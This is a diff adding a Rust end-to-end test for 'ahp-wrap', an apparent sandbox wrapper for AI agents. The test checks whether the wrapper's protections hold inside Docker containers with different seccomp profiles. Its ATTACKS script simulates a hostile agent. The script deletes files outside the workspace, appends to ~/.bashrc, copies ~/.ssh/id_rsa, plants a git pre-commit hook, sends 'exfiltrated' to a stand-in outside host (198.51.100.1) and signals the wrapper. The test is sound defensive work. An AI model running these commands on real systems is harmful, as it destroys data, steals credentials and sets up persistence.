@@ -1,0 +1,362 @@
+//! The floor in a container (docs/floor.md, "In a container"): the wrapper started as Docker
+//! starts a container's process, by tests/container/launch.py with the engine's own defaults
+//! (Debian's moby 20.10 source, unpacked by tests/container/setup.sh): its default seccomp
+//! profile compiled into a filter, its default capability set as root, `no_new_privs`, its
+//! masked and read-only paths (`/proc/sys`) in a mount namespace, and a network namespace
+//! whose 198.51.100.1 stands for the world outside. A hookless shell agent then attacks each
+//! part of the floor, and each result is read from the disk or from what reached the outside
+//! server: with `--floor off`, under the default profile, and under the profile
+//! `ahp-wrap setup container-profile` writes from the engine's own. The table of what holds is
+//! printed (on the test's stderr, past libtest's capture, so that CI's log shows it).
+//!
+//! The run's world lives under the target directory, not under /tmp: the temp directories are
+//! writable on the floor, so a victim there would prove nothing.
+
+use ahp_wrap_testkit::common;
+
+use std::io::Write;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+use std::time::Duration;
+
+use common::*;
+
+/// Docker's own defaults, as tests/container/setup.sh unpacked them.
+fn engine_source() -> PathBuf {
+    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/.cache/container/moby");
+    assert!(
+        dir.join("profiles/seccomp/default.json").exists(),
+        "Docker's default profile is not at {}: run tests/container/setup.sh first",
+        dir.display()
+    );
+    dir
+}
+
+/// libseccomp's Python binding, which compiles a profile as the engine does.
+const PYTHON: &str = "/usr/bin/python3";
+
+/// What the agent does, one act a part of the floor; each leaves its trace where the test
+/// reads it.
+const ATTACKS: &str = r#"
+rm -rf "$VICTIM" 2>/dev/null
+/usr/bin/python3 -c 'import os; open(os.path.expanduser("~/.bashrc"), "a").write("evil\n")' 2>/dev/null
+cat ~/.ssh/id_rsa > leaked 2>/dev/null
+echo 'echo planted' > .git/hooks/pre-commit 2>/dev/null
+/usr/bin/python3 -c '
+import socket
+s = socket.create_connection(("198.51.100.1", 80), timeout=3)
+s.sendall(b"exfiltrated")
+s.close()' 2>/dev/null
+kill -0 "${AHP_WRAP_PARENT_PID:-$PPID}" 2>/dev/null && echo yes > signalled
+[ -d "/proc/$(cat "$SERVER_PID")" ] && echo yes > sees-outside
+echo done > ran
+"#;
+
+/// A workspace (a git repository), a home with a key and a start-up file, and a victim
+/// outside both.
+struct World {
+    _dir: tempfile::TempDir,
+    root: PathBuf,
+}
+
+/// What the attacks left: `true` where the act did its damage.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+struct Damage {
+    ran: bool,
+    deleted_outside: bool,
+    rc_written: bool,
+    key_read: bool,
+    hook_planted: bool,
+    egress: bool,
+    signalled: bool,
+    sees_outside: bool,
+}
+
+impl World {
+    fn new() -> World {
+        let (dir, root) = outside_tree(
+            "floor-container-",
+            &["ws"],
+            &[
+                ("home/.ssh/id_rsa", "PRIVATE KEY\n"),
+                ("home/.bashrc", "# rc\n"),
+                ("victim/file", "precious\n"),
+            ],
+        );
+        let git = Command::new("git")
+            .args(["init", "-q"])
+            .current_dir(root.join("ws"))
+            .output()
+            .unwrap();
+        assert!(git.status.success(), "{}", show(&git));
+        World { _dir: dir, root }
+    }
+
+    fn ws(&self) -> PathBuf {
+        self.root.join("ws")
+    }
+
+    /// `args` run by the launcher under `profile`, as a container's process.
+    fn in_container(&self, profile: &Path, args: &[&str]) -> Output {
+        let launch = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/container/launch.py");
+        let mut cmd = Command::new(PYTHON);
+        cmd.arg(launch)
+            .arg(profile)
+            .arg(engine_source())
+            .arg(self.root.join("outside.log"))
+            .arg("--")
+            .arg(wrap_bin())
+            .args(args)
+            .current_dir(self.ws())
+            .env("HOME", self.root.join("home"))
+            .env("VICTIM", self.root.join("victim"))
+            .env("SERVER_PID", self.root.join("outside.log.pid"))
+            .env_remove("AHP_WRAP_FLOOR");
+        run(&mut cmd, Duration::from_secs(60))
+    }
+
+    /// The attacks, as a hookless agent of a run with `flags`.
+    fn attack(&self, profile: &Path, flags: &[&str]) -> (Output, Damage) {
+        let mut args = vec!["--no-intercept", "--summary", "never"];
+        args.extend(flags);
+        args.extend(["--", "sh", "-c", ATTACKS]);
+        let out = self.in_container(profile, &args);
+        let ws = self.ws();
+        let has = |p: PathBuf| p.exists();
+        let damage = Damage {
+            ran: has(ws.join("ran")),
+            deleted_outside: !has(self.root.join("victim/file")),
+            rc_written: std::fs::read_to_string(self.root.join("home/.bashrc")).unwrap()
+                != "# rc\n",
+            key_read: std::fs::read_to_string(ws.join("leaked"))
+                .is_ok_and(|s| s.contains("PRIVATE KEY")),
+            hook_planted: has(ws.join(".git/hooks/pre-commit")),
+            egress: std::fs::read_to_string(self.root.join("outside.log"))
+                .is_ok_and(|s| s.contains("exfiltrated")),
+            signalled: has(ws.join("signalled")),
+            sees_outside: has(ws.join("sees-outside")),
+        };
+        (out, damage)
+    }
+}
+
+/// `ahp-wrap setup container-profile --from <Docker's default> --output FILE`, the
+/// documented step; its stderr.
+fn documented_profile(into: &Path) -> (PathBuf, String) {
+    let file = into.join("ahp-wrap-seccomp.json");
+    let out = run(
+        Command::new(wrap_bin())
+            .args(["setup", "container-profile", "--from"])
+            .arg(engine_source().join("profiles/seccomp/default.json"))
+            .arg("--output")
+            .arg(&file),
+        Duration::from_secs(30),
+    );
+    assert!(out.status.success(), "{}", show(&out));
+    (file, String::from_utf8_lossy(&out.stderr).into_owned())
+}
+
+/// One row of the table: the part, and what each column saw.
+fn row(part: &str, cells: [bool; 3], held: &str, lost: &str) -> String {
+    let cell = |damage: bool| if damage { lost } else { held };
+    format!(
+        "| {part:<38} | {:<18} | {:<18} | {:<18} |\n",
+        cell(cells[0]),
+        cell(cells[1]),
+        cell(cells[2])
+    )
+}
+
+#[test]
+#[cfg_attr(
+    skip_e2e = "container",
+    ignore = "tests/container/setup.sh skipped (AHP_WRAP_SKIP_AGENT_E2E)"
+)]
+fn the_floor_in_a_container_under_the_engines_default_profile_and_under_ours() {
+    let scratch = tempfile::tempdir().unwrap();
+    let default = engine_source().join("profiles/seccomp/default.json");
+    let (ours, said) = documented_profile(scratch.path());
+    assert!(
+        said.contains("allowed without CAP_SYS_ADMIN now: unshare, setns, mount, umount2"),
+        "{said}"
+    );
+
+    let columns = [
+        ("--floor off", default.clone(), vec!["--floor", "off"]),
+        ("default profile", default.clone(), vec![]),
+        ("documented profile", ours.clone(), vec![]),
+    ];
+    let mut seen = Vec::new();
+    for (name, profile, flags) in &columns {
+        let w = World::new();
+        let (out, damage) = w.attack(profile, flags);
+        assert!(out.status.success() && damage.ran, "{name}: {}", show(&out));
+        seen.push((out, damage));
+    }
+    let d: Vec<Damage> = seen.iter().map(|(_, d)| *d).collect();
+    let pick = |f: fn(&Damage) -> bool| [f(&d[0]), f(&d[1]), f(&d[2])];
+    let mut table = String::from(
+        "\nThe floor in a container, as Docker runs one (tests/floor_container.rs):\n\
+         | part of the floor (the act)            | --floor off        | default profile    | documented profile |\n\
+         |----------------------------------------|--------------------|--------------------|--------------------|\n",
+    );
+    table += &row(
+        "files: rm -rf outside the workspace",
+        pick(|d| d.deleted_outside),
+        "refused",
+        "deleted",
+    );
+    table += &row(
+        "files: Python appends to ~/.bashrc",
+        pick(|d| d.rc_written),
+        "refused",
+        "written",
+    );
+    table += &row(
+        "secrets: cat ~/.ssh/id_rsa",
+        pick(|d| d.key_read),
+        "hidden (empty)",
+        "read",
+    );
+    table += &row(
+        "protected paths: .git/hooks/pre-commit",
+        pick(|d| d.hook_planted),
+        "refused",
+        "planted",
+    );
+    table += &row(
+        "network: direct TCP to 198.51.100.1",
+        pick(|d| d.egress),
+        "never arrives",
+        "arrives",
+    );
+    table += &row(
+        "signals: kill -0 the wrapper",
+        pick(|d| d.signalled),
+        "refused",
+        "signalled",
+    );
+    table += &row(
+        "processes: sees one outside the tree",
+        pick(|d| d.sees_outside),
+        "hidden",
+        "seen",
+    );
+    let _ = std::io::stderr().write_all(table.as_bytes());
+
+    // Every act does its damage without the floor: each check below can fail.
+    let off = d[0];
+    assert!(
+        off.deleted_outside
+            && off.rc_written
+            && off.key_read
+            && off.hook_planted
+            && off.egress
+            && off.signalled
+            && off.sees_outside,
+        "{off:?}\n{}",
+        show(&seen[0].0)
+    );
+
+    // Docker's default profile: no namespaces, so nothing hidden, nothing bound and no
+    // network namespace; Landlock still refuses the writes and the signal, and the run
+    // says what it lacks before the agent starts, the secrets by name.
+    let (out, dflt) = (&seen[1].0, d[1]);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        !dflt.deleted_outside && !dflt.rc_written && !dflt.signalled,
+        "{dflt:?}\n{}",
+        show(out)
+    );
+    assert!(
+        dflt.key_read && dflt.hook_planted && dflt.egress,
+        "{dflt:?}\n{}",
+        show(out)
+    );
+    for said in [
+        "seccomp profile refuses unshare(2) (Operation not permitted)",
+        "ahp-wrap setup container-profile",
+        "secrets: readable by the agent's tree, since no mount can hide them here: ~/.ssh",
+        "network: not confined",
+    ] {
+        assert!(stderr.contains(said), "not said: {said}\n{}", show(out));
+    }
+
+    // The documented profile: every part holds as on the host.
+    let (out, ours_d) = (&seen[2].0, d[2]);
+    assert!(
+        !ours_d.deleted_outside
+            && !ours_d.rc_written
+            && !ours_d.key_read
+            && !ours_d.hook_planted
+            && !ours_d.egress
+            && !ours_d.signalled,
+        "{ours_d:?}\n{}",
+        show(out)
+    );
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(!stderr.contains("unshare(2)"), "{}", show(out));
+    // All but the tree's own /proc, which the kernel refuses over the engine's partly
+    // covered one (docs/floor.md says so: change it with this).
+    assert!(ours_d.sees_outside, "{ours_d:?}\n{}", show(out));
+}
+
+#[test]
+#[cfg_attr(
+    skip_e2e = "container",
+    ignore = "tests/container/setup.sh skipped (AHP_WRAP_SKIP_AGENT_E2E)"
+)]
+fn require_floor_refuses_the_default_container_and_runs_in_the_documented_one() {
+    let scratch = tempfile::tempdir().unwrap();
+    let default = engine_source().join("profiles/seccomp/default.json");
+    let (ours, _) = documented_profile(scratch.path());
+    let w = World::new();
+    let args = [
+        "--no-intercept",
+        "--summary",
+        "never",
+        "--require-floor",
+        "--",
+        "sh",
+        "-c",
+        "echo done > ran",
+    ];
+    let out = w.in_container(&default, &args);
+    assert_eq!(out.status.code(), Some(125), "{}", show(&out));
+    assert!(
+        !w.ws().join("ran").exists(),
+        "the agent ran: {}",
+        show(&out)
+    );
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("refuses unshare(2)"),
+        "{}",
+        show(&out)
+    );
+    let out = w.in_container(&ours, &args);
+    assert!(
+        out.status.success() && w.ws().join("ran").exists(),
+        "{}",
+        show(&out)
+    );
+}
+
+#[test]
+#[cfg_attr(
+    skip_e2e = "container",
+    ignore = "tests/container/setup.sh skipped (AHP_WRAP_SKIP_AGENT_E2E)"
+)]
+fn policy_floor_in_the_default_container_says_what_is_missing_and_why() {
+    let w = World::new();
+    let default = engine_source().join("profiles/seccomp/default.json");
+    let out = w.in_container(&default, &["policy", "floor"]);
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    for said in [
+        "files: written only beneath",
+        "signals: the agent's tree cannot signal the wrapper",
+        "seccomp profile refuses unshare(2)",
+        "secrets: readable by the agent's tree, since no mount can hide them here: ~/.ssh",
+    ] {
+        assert!(stdout.contains(said), "not said: {said}\n{}", show(&out));
+    }
+}
